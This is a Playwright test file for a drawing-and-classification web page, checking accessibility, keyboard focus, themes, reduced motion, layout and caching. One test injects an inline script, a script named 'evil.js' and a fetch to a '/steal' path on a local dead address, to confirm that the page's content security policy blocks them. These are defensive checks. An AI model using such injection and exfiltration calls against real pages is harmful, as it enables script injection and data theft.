"""The page for everybody: axe, keyboard, themes, narrow screens, little motion; and what it may not do."""

import json
from importlib.resources import files
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, ViewportSize, expect

from bench.support.pictures import png
from bench.support.processes import Service
from tests.browser.asking import a_file, await_that
from tests.browser.bundles import Images
from tests.browser.conftest import DESKTOP, open_page
from tests.browser.strokes import THREE, draw

AXE = files("axe_playwright_python").joinpath("axe.min.js").read_text()
PHONE: ViewportSize = {"width": 390, "height": 844}
NARROW: ViewportSize = {"width": 320, "height": 640}


def violations(page: Page) -> list[str]:
    """Return what axe finds wrong, by rule and place."""
    page.evaluate(AXE)
    found: dict[str, Any] = page.evaluate("axe.run()")
    assert len(found["passes"]) > 15  # it did look
    return [
        f"{violation['impact']} {violation['id']}: {node['target']} {node['failureSummary']}"
        for violation in found["violations"]
        for node in violation["nodes"]
    ]


def fits(page: Page) -> bool:
    """Tell whether nothing makes the page wider than the window, nor leaves its column."""
    return bool(
        page.evaluate("""() => {
          const right = document.querySelector("main").getBoundingClientRect().right + 0.5;
          const inside = (part) => part.closest(".scroll, .unseen") || part.getBoundingClientRect().right <= right;
          const parts = [...document.querySelectorAll("main *")];
          return document.documentElement.scrollWidth <= innerWidth && parts.every(inside);
        }""")
    )


@pytest.mark.parametrize(
    ("viewport", "scheme"), [(DESKTOP, "light"), (PHONE, "dark")], ids=["desktop", "phone"]
)
def test_axe_finds_nothing_and_nothing_is_too_wide(
    browser: Browser, service: Service, digits: Images, viewport: Any, scheme: Any
) -> None:
    """Empty, with an answer, with files answered and refused, with a warning, and with an error."""
    context = browser.new_context(viewport=viewport, color_scheme=scheme, reduced_motion="reduce")
    page = context.new_page()
    open_page(page, service)
    page.click("#polarity summary")
    assert (violations(page), fits(page)) == ([], True)
    draw(page, THREE)
    expect(page.locator("#label")).to_have_text("3")
    images = [a_file("a.png", png(255 - digits[0])), a_file("x" * 80 + ".png", b"no image")]
    page.set_input_files("#files", images)
    expect(page.locator("#problem")).to_contain_text("looks inverted")
    assert (violations(page), fits(page)) == ([], True)
    page.route("**/predict", lambda route: route.fulfill(status=401, body="{}"))
    draw(page, THREE)
    expect(page.get_by_label("Access token")).to_be_visible()
    assert (violations(page), fits(page)) == ([], True)
    context.close()


def test_axe_finds_nothing_with_many_classes(page: Page, other_service: Service) -> None:
    """The list of 300 classes, opened, on the narrowest screen that is still in use."""
    page.set_viewport_size(NARROW)
    open_page(page, other_service)
    draw(page, THREE)
    expect(page.locator("#sure")).to_contain_text("%")
    page.click("#others summary")
    expect(page.locator("#rest li")).to_have_count(290)
    assert (violations(page), fits(page)) == ([], True)


def test_pad_and_answer_are_on_a_telephone_s_screen_together(page: Page, service: Service) -> None:
    """Who draws on a telephone sees the answer without scrolling."""
    page.set_viewport_size(PHONE)
    open_page(page, service)
    for name in ("#pad", "#label", "#seen"):
        box = page.locator(name).bounding_box()
        assert box is not None
        assert 0 <= box["x"] < box["x"] + box["width"] <= PHONE["width"]
        assert 0 <= box["y"] < box["y"] + box["height"] <= PHONE["height"]


def test_every_control_is_reached_by_keyboard_and_shows_it(page: Page, service: Service) -> None:
    """Tab goes through all controls in the order in which they are read; each has an outline then."""
    open_page(page, service)
    expect(page.locator("#samples")).to_be_visible()
    draw(page, THREE)
    expect(page.locator("#undo")).to_be_enabled()
    page.mouse.click(2, 2)  # from where Tab goes on
    reached: list[str] = []
    for _ in range(40):
        page.keyboard.press("Tab")
        name, outline = page.evaluate("""() => {
          const element = document.activeElement;
          const shown = element.id === "files" ? element.nextElementSibling : element;
          return [element.id || element.parentElement.parentElement.id, getComputedStyle(shown).outlineStyle];
        }""")
        if name in ("", reached[0] if reached else None):
            break
        assert outline == "solid", name
        reached.append(name)
    in_order = list(dict.fromkeys(reached))
    assert in_order == ["pad", "undo", "clear", "pen", "save", "samples", "files", "preparation", "choose"]


@pytest.mark.parametrize(("motion", "seconds"), [("reduce", "0s"), ("no-preference", "0.12s")])
def test_bars_move_only_for_who_likes_it(
    browser: Browser, service: Service, motion: Any, seconds: str
) -> None:
    """prefers-reduced-motion is honoured."""
    context = browser.new_context(reduced_motion=motion)
    page = context.new_page()
    open_page(page, service)
    bar = page.locator("#bars .track span").first
    assert bar.evaluate("(bar) => getComputedStyle(bar).transitionDuration") == seconds
    context.close()


def test_themes_follow_the_system(browser: Browser, service: Service) -> None:
    """Light by day, dark by night, as the system says, also while the page is open."""
    context = browser.new_context(color_scheme="light")
    page = context.new_page()
    open_page(page, service)
    ground = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(ground)
    page.emulate_media(color_scheme="dark")
    dark = page.evaluate(ground)
    brightness = [sum(json.loads(colour.replace("rgb(", "[").replace(")", "]"))) for colour in (light, dark)]
    assert brightness[0] > 650
    assert brightness[1] < 120
    context.close()


def test_nothing_but_the_page_s_own_files_can_run(context: BrowserContext, service: Service) -> None:
    """The policy that the page is sent with stops inline scripts, foreign scripts and foreign requests."""
    page = context.new_page()
    open_page(page, service)
    page.route("http://127.0.0.1:9/**", lambda route: route.fulfill(body="window.foreign = true"))
    page.evaluate("""async () => {
      window.stopped = [];
      addEventListener("securitypolicyviolation", (event) => window.stopped.push(event.effectiveDirective));
      const inline = document.createElement("script");
      inline.textContent = "window.foreign = true";
      const foreign = document.createElement("script");
      foreign.src = "http://127.0.0.1:9/evil.js";
      document.body.append(inline, foreign);
      await fetch("http://127.0.0.1:9/steal").catch(() => {});
    }""")
    # Playwright's own waiting evaluates text in the page, which the policy stops too.
    await_that(page, lambda: bool(page.evaluate("window.stopped.length >= 3")))
    assert page.evaluate("window.foreign") is None
    assert sorted(set(page.evaluate("window.stopped"))) == ["connect-src", "script-src-elem"]


def test_the_second_visit_loads_nothing_anew(page: Page, service: Service) -> None:
    """Every file of the page is asked about again, and none is sent again.

    The browser tells: 300 is the size of an answer without a body (W3C Resource Timing, section 4.3).
    """
    sizes = """() => Object.fromEntries(performance.getEntriesByType("resource")
      .map((entry) => [new URL(entry.name).pathname, entry.transferSize]))"""
    open_page(page, service)
    expect(page.locator("#samples")).to_be_visible()
    wanted = {"/assets/main.js", "/assets/style.css", "/samples"}
    await_that(page, lambda: wanted <= set(page.evaluate(sizes)))
    first = page.evaluate(sizes)
    files = {path for path in first if path != "/metadata"}
    page.reload()
    expect(page.locator("#samples")).to_be_visible()
    await_that(page, lambda: files <= set(page.evaluate(sizes)))
    second = page.evaluate(sizes)
    assert all(first[path] > 300 for path in files)
    assert all(second[path] == 300 for path in files)
